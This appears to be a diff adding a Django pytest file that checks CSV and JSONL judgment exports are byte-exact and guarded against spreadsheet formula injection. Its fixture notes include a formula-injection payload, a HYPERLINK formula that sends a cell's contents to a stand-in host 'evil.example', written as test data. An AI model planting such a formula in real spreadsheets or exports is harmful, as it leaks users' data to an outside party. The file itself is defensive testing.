@@ -1,0 +1,165 @@
+"""The fast judgment exports (rows formatted by the database, whole chunks to csv.writer or one %-format) write
+byte for byte what a plain csv.writer / json.dumps over the ORM's values writes, on data chosen to break them."""
+
+from __future__ import annotations
+
+import csv
+import datetime
+import io
+import json
+
+import pytest
+from django.db import connection
+
+from judging.api.renderers import COLUMN_NAMES, csv_cell, judgments_csv, judgments_jsonl
+from judging.models import Judgment, Membership, Pair
+from judging.selectors import JUDGMENT_EXPORT_COLUMNS, judgment_export_chunks
+from judging.services import documents_import, judgment_record, queries_import, run_import
+from tests.data import body_of, client_for
+
+QIDS = ["=1+1", "q,2", '질의"3"', "-0.5"]
+DOCIDS = ["@d1", "d2", "+d3", "문서4", 'd"5', "d,6"]
+# Notes as stored (written straight to the model: the judging form strips them, an import or a
+# migration need not): formulas, quotes, separators, line breaks, Korean, JSON escapes, plain numbers.
+NOTES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "\t=1+1",
+    "\r=1+1",
+    "-0.5",
+    "+1",
+    'a, b and "c"',
+    "line one\nline two\r\nline three",
+    "관련 있음, 확실하지 않음",
+    "back\\slash and \x01 control \x1f",
+    "",
+    "@mention",
+    "   leading spaces",
+    'trailing quote"',
+    "é NFC",
+]
+SECONDS = [0.0, 4.5, 0.1 + 0.2, 1e16, 1e-05, 123.0, 12.345, 86399.999, 1e300, 3.0]
+
+
+@pytest.fixture
+def tricky(campaign, lead, annotator, make_user):
+    """Judgments by three annotators (one whose name starts like a formula) on 15 pairs, a sixth of them
+    unsure with a note, with every note, float and timestamp shape above."""
+    topics = "".join(json.dumps({"qid": q, "text": "t"}) + "\n" for q in QIDS)
+    docs = "".join(json.dumps({"docid": d, "title": d, "text": "x"}) + "\n" for d in DOCIDS)
+    queries_import(campaign=campaign, data=topics.encode(), filename="topics.jsonl")
+    documents_import(campaign=campaign, data=docs.encode(), filename="docs.jsonl")
+    run = "".join(
+        f"{q} Q0 {d} {r + 1} {9 - r} r\n"
+        for q in ["=1+1", "-0.5", "q,2"]
+        for r, d in enumerate(["@d1", "d2", "+d3", "문서4", 'd"5'])
+    )
+    campaign.pool_depth = 5
+    campaign.save(update_fields=["pool_depth"])
+    run_import(campaign=campaign, data=run.encode(), filename="r.run")
+    others = [make_user("-annotator"), make_user("김판정")]
+    for user in others:
+        Membership.objects.create(campaign=campaign, user=user, role="annotator")
+    pairs = list(Pair.objects.filter(campaign=campaign).order_by("id"))
+    assert len(pairs) == 15
+    base = datetime.datetime(2024, 5, 1, 12, 0, 0, tzinfo=datetime.UTC)
+    n = 0
+    for user in [annotator, *others]:
+        for pair in pairs:
+            judgment, _ = judgment_record(pair=pair, annotator=user, grade=n % 3)
+            fields = {
+                "note": NOTES[n % len(NOTES)],
+                "seconds_spent": SECONDS[n % len(SECONDS)],
+                # whole seconds (isoformat writes no fraction), and microseconds
+                "created_at": base + datetime.timedelta(seconds=n, microseconds=0 if n % 2 else 1000 * n + 7),
+                "updated_at": base + datetime.timedelta(days=1, seconds=n),
+            }
+            if n % 6 == 5:
+                fields.update(unsure=True, tentative_grade_id=judgment.grade_id, grade_id=None)
+            Judgment.objects.filter(id=judgment.id).update(**fields)
+            n += 1
+    return campaign
+
+
+def _reference_rows() -> list[dict]:
+    """Every judgment as the JSON API describes it, computed the slow and obvious way."""
+    paths = [path for _, path in JUDGMENT_EXPORT_COLUMNS]
+    rows = []
+    for values in Judgment.objects.order_by("id").values_list(*paths):
+        row = {}
+        for name, value in zip(COLUMN_NAMES, values, strict=True):
+            if isinstance(value, datetime.datetime):
+                value = value.astimezone(datetime.UTC).isoformat().replace("+00:00", "Z")
+            row[name] = value
+        rows.append(row)
+    return rows
+
+
+def _reference_csv(rows: list[dict]) -> str:
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\n")
+    writer.writerow(COLUMN_NAMES)
+    for row in rows:
+        cells = []
+        for value in row.values():
+            if isinstance(value, bool):
+                value = "true" if value else "false"
+            cells.append(csv_cell(value))
+        writer.writerow(cells)
+    return buffer.getvalue()
+
+
+def _reference_jsonl(rows: list[dict]) -> str:
+    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)
+
+
+@pytest.mark.parametrize("chunk_size", [1, 5, 5000])
+def test_judgments_csv_and_jsonl_match_the_plain_writers(tricky, chunk_size):
+    rows = _reference_rows()
+    assert len(rows) == 45 and any(r["unsure"] for r in rows)
+    judgments = Judgment.objects.order_by("id")
+    csv_text = "".join(judgments_csv(judgment_export_chunks(judgments=judgments, chunk_size=chunk_size)))
+    jsonl_text = "".join(judgments_jsonl(judgment_export_chunks(judgments=judgments, chunk_size=chunk_size)))
+    assert csv_text == _reference_csv(rows)
+    assert jsonl_text == _reference_jsonl(rows)
+    # and they read back as the data: the guard is the only change (csv.writer leaves a lone CR unquoted
+    # with a "\n" line end, so the reference itself does not read back for the note "\r=1+1")
+    read = list(csv.DictReader(io.StringIO(csv_text.replace("\r=1+1", "CR"), newline="")))
+    assert [(r["qid"], r["docid"], r["annotator"]) for r in read] == [
+        (csv_cell(r["qid"]), csv_cell(r["docid"]), csv_cell(r["annotator"])) for r in rows
+    ]
+    assert {r["annotator"] for r in read} == {"ann", "'-annotator", "김판정"}
+    assert [json.loads(line) for line in jsonl_text.splitlines()] == rows
+
+
+def test_judgments_exports_through_the_api_are_the_reference_bytes(tricky, lead):
+    client = client_for(lead)
+    params = {"campaign": tricky.slug, "unsure": "include"}
+    rows = _reference_rows()
+    csv_body = body_of(client.get("/api/judgments/", {**params, "format": "csv"}))
+    assert csv_body == _reference_csv(rows).encode()
+    bom_body = body_of(client.get("/api/judgments/", {**params, "format": "csv", "bom": "1"}))
+    assert bom_body == "\ufeff".encode() + csv_body
+    jsonl_body = body_of(client.get("/api/judgments/", {**params, "format": "jsonl"}))
+    assert jsonl_body == _reference_jsonl(rows).encode()
+    one = body_of(client.get("/api/judgments/", {**params, "format": "csv", "annotator": "김판정"}))
+    assert one == _reference_csv([r for r in rows if r["annotator"] == "김판정"]).encode()
+
+
+def test_judgments_csv_of_no_judgment_is_the_header(campaign):
+    chunks = judgment_export_chunks(judgments=Judgment.objects.none())
+    assert "".join(judgments_csv(chunks)) == ",".join(COLUMN_NAMES) + "\n"
+    assert "".join(judgments_jsonl(judgment_export_chunks(judgments=Judgment.objects.none()))) == ""
+
+
+@pytest.mark.skipif(connection.vendor != "sqlite", reason="a timestamp stored as text in another shape: SQLite only")
+def test_judgments_export_converts_a_timestamp_stored_in_another_shape(tricky):
+    judgment = Judgment.objects.order_by("id").first()
+    with connection.cursor() as cursor:
+        cursor.execute(
+            "UPDATE judging_judgment SET created_at = %s WHERE id = %s", ["2024-05-01T12:00:00.5+00:00", judgment.id]
+        )
+    rows = _reference_rows()
+    assert rows[0]["created_at"] == "2024-05-01T12:00:00.500000Z"
+    judgments = Judgment.objects.order_by("id")
+    assert "".join(judgments_csv(judgment_export_chunks(judgments=judgments))) == _reference_csv(rows)
+    assert "".join(judgments_jsonl(judgment_export_chunks(judgments=judgments))) == _reference_jsonl(rows)
